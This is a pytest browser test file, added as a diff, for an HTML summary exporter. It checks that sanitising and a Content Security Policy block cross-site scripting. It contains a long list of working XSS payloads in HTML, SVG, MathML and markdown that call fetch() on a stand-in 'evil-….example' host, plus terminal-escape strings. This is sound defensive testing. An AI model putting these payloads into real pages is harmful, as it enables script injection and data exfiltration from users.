@@ -1,0 +1,186 @@
+"""A real browser runs nothing in the summary and asks for nothing, whatever cards, code and logs say.
+
+The same page is tried three times: as it is; without its policy, so that the sanitiser is proved alone; and hostile
+mark-up unsanitised under the policy, so that the policy is. The same mark-up without either must be caught in the act.
+"""
+
+from __future__ import annotations
+
+import re
+import uuid
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from attncli.export.html import policy, to_html
+from attncli.export.summary import CardLine, SolvedLine, Summary, TopicLine
+
+pytestmark = pytest.mark.browser
+
+Open = Callable[[str], Any]
+
+EVENTS = "mouseover mouseenter mousedown click focus focusin blur error load toggle pointerenter keydown".split()
+TRY_EVERYTHING = """
+const [events, done] = arguments;
+const leads = e => e.target.closest("a[href]:not([href^=javascript])");
+addEventListener("click", e => { if (leads(e)) e.preventDefault(); }, true);
+const all = [...document.querySelectorAll("*")];
+for (const element of all) {
+  for (const kind of events) {
+    const bubbles = !["focus", "blur", "load", "error", "mouseenter", "pointerenter"].includes(kind);
+    const made = kind.startsWith("key") ? KeyboardEvent : /mouse|click/.test(kind) ? MouseEvent : Event;
+    element.dispatchEvent(new made(kind, {bubbles, cancelable: true}));
+  }
+}
+setTimeout(() => done({
+  pwned: window.pwned || 0,
+  elements: all.length,
+  formulas: document.querySelectorAll("math").length,
+  wide: Math.max(0, ...[...document.querySelectorAll("math")].map(m => m.getBoundingClientRect().width)),
+  styled: document.querySelectorAll("[style]").length,
+  text: document.body.innerText,
+  covered: [...document.querySelectorAll("body *")].some(e => getComputedStyle(e).position === "fixed"),
+  maxWidth: getComputedStyle(document.body).maxWidth,
+}), 300);
+"""
+
+
+@pytest.fixture
+def host() -> str:
+    """A host that no other test asks for."""
+    return f"evil-{uuid.uuid4().hex}.example"
+
+
+def hostile_mark_up(host: str) -> list[str]:
+    js = f"window.pwned=1;fetch('http://{host}/f')"
+    return [
+        f"<script>{js}</script>",
+        f'<img src="http://{host}/p.png" onerror="{js}">',
+        f'<b onmouseover="{js}" onclick="{js}">over</b>',
+        f'<svg onload="{js}"><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
+        f'<iframe srcdoc="<script>parent.pwned=1</script>" src="http://{host}/frame"></iframe>',
+        f'<details open ontoggle="{js}">x</details>',
+        f'<div style="position:fixed;inset:0;background:url(http://{host}/bg)">cover</div>',
+        f'<link rel="stylesheet" href="http://{host}/s.css"><style>body{{background:url(http://{host}/b)}}</style>',
+        f'<math><mi onmouseover="{js}">hover</mi><mtext href="javascript:{js}">m</mtext></math>',
+        f'<form action="http://{host}/form"><button formaction="javascript:{js}">b</button></form>',
+        f'<input autofocus onfocus="{js}">',
+        f'<object data="http://{host}/o"></object><embed src="http://{host}/e"><video src="http://{host}/v"></video>',
+        f'<base href="http://{host}/"><a href="x" ping="http://{host}/ping">based</a>',
+        f'<meta http-equiv="refresh" content="0;url=javascript:{js}">',
+        f"</code></pre></style><script>{js}</script>",
+        f'<a href="javascript:{js}">click</a>',
+    ]
+
+
+def hostile_markdown(host: str) -> list[str]:
+    js = f"window.pwned=1;fetch('http://{host}/f')"
+    return [
+        *hostile_mark_up(host),
+        f'$\\text{{<mi\tonmouseover="{js}">hover</mi>}}$',
+        f'$\\text{{</mtext></math><img src=http://{host}/i onerror="{js}">}}$',
+        f"$\\href{{javascript:{js}}}{{click}}$",
+        f"$\\style{{position:fixed;inset:0;background:url(http://{host}/p)}}{{x}}$",
+        f'$\\class{{" onmouseover="{js}}}{{x}}$',
+        f'$$\\color{{red" onmouseover="{js}}}{{x}}$$',
+        f'$$x$$ (" onmouseover="{js}")',
+        f"![pixel](http://{host}/pixel.png)",
+        f'![a](http://{host}/p "t\\" onerror=\\"{js}")',
+        f"[click](javascript:{js})",
+        f"[click](JaVaScRiPt&colon;{js})",
+        f"[click](data:text/html,<script>{js}</script>) [x](//{host}/relative)",
+        f"<javascript:{js}>",
+        f'```python" onmouseover="{js}\ncode\n```',
+        f"| a |\n|:-:|\n| <img src=http://{host}/t> |",
+    ]
+
+
+def summary(texts: list[str], lang: str = "en") -> Summary:
+    """A summary that says each text in each place there is one for."""
+    cards = tuple(CardLine(t, t, t, t, t, (t, t), (t,), 0.4, 2) for t in texts)
+    topics = tuple(TopicLine(t, t, 1, 2, 0.4, 0.5, 0.3, 1) for t in texts)
+    solved = tuple(SolvedLine(t, t, 1, 1, t, f"# \x1b]0;pwned\x07\u202e {t}\n{t}") for t in texts)
+    return Summary(
+        lang=lang,  # type: ignore[arg-type]
+        made_on="2026-03-01",
+        interview="2026-04-01",
+        days_left=31,
+        reviews=1,
+        streak_days=1,
+        retention=0.5,
+        seen=1,
+        cards=2,
+        topics=topics,
+        strengths=topics,
+        gaps=topics,
+        weak=cards,
+        solved=solved,
+        attempted=tuple(texts),
+        to_review=cards,
+    )
+
+
+def requests_for(host: str, open_page: Open) -> int:
+    """How often the pages so far asked for `host`, counted once a later page's own request has come through."""
+    last = f"last-{uuid.uuid4().hex}.example"
+    callers = open_page(f'<img src="http://{last}/">').callers
+    callers.wait_for(last)
+    return callers.asked_for(host)
+
+
+def without_policy(page: str) -> str:
+    bare, count = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
+    assert count == 1
+    return bare
+
+
+def raw(host: str, own_policy: str = "") -> str:
+    head = f'<meta http-equiv="Content-Security-Policy" content="{own_policy}">' if own_policy else ""
+    return f"<!doctype html><head><meta charset=utf-8>{head}</head><body>{''.join(hostile_mark_up(host))}</body>"
+
+
+@pytest.mark.parametrize("keep", [True, False], ids=["as-it-is", "without-its-policy"])
+@pytest.mark.parametrize("lang", ["en", "zh"])
+def test_nothing_runs_and_nothing_is_asked_for(open_page, host, lang, keep) -> None:
+    page = to_html(summary(hostile_markdown(host), lang))
+    seen = open_page(page if keep else without_policy(page)).run(TRY_EVERYTHING, EVENTS)
+    assert seen["pwned"] == 0
+    assert requests_for(host, open_page) == 0
+    assert (seen["styled"], seen["covered"]) == (0, False)
+    assert seen["elements"] > 500
+    assert not set(seen["text"]) & set("\x1b\u202e")
+
+
+def test_the_policy_alone_would_stop_it_too(open_page, host) -> None:
+    seen = open_page(raw(host, policy("p {}"))).run(TRY_EVERYTHING, EVENTS)
+    assert (seen["pwned"], seen["covered"]) == (0, False)
+    assert requests_for(host, open_page) == 0
+
+
+def test_a_script_and_a_request_would_have_been_seen(open_page, host) -> None:
+    seen = open_page(raw(host)).run(TRY_EVERYTHING, EVENTS)
+    assert (seen["pwned"], seen["covered"]) == (1, True)
+    open_page("<p>after</p>").callers.wait_for(host, 3)
+
+
+@pytest.mark.parametrize("attribute", ["onmouseover", "onclick", "onfocus", "onerror", "onload"])
+def test_each_event_would_have_been_seen(open_page, attribute) -> None:
+    seen = open_page(f'<p {attribute}="window.pwned=1">x</p>').run(TRY_EVERYTHING, EVENTS)
+    assert seen["pwned"] == 1
+
+
+def test_formulas_tables_and_style_are_drawn(open_page) -> None:
+    text = r"$\frac{Q K^\top}{\sqrt{d_k}}$ and" + "\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n$$\\sum_i x_i$$"
+    seen = open_page(to_html(summary([text]))).run(TRY_EVERYTHING, EVENTS)
+    assert seen["formulas"] >= 4
+    assert seen["wide"] > 20
+    assert seen["maxWidth"] == "832px"
+
+
+def test_the_pages_own_style_is_what_its_policy_names(tmp_path: Path) -> None:
+    page = to_html(summary(["x"]))
+    style = re.search(r"<style>(.*?)</style>", page, re.S)
+    assert style is not None
+    assert policy(style[1]) in page.replace("&#39;", "'")
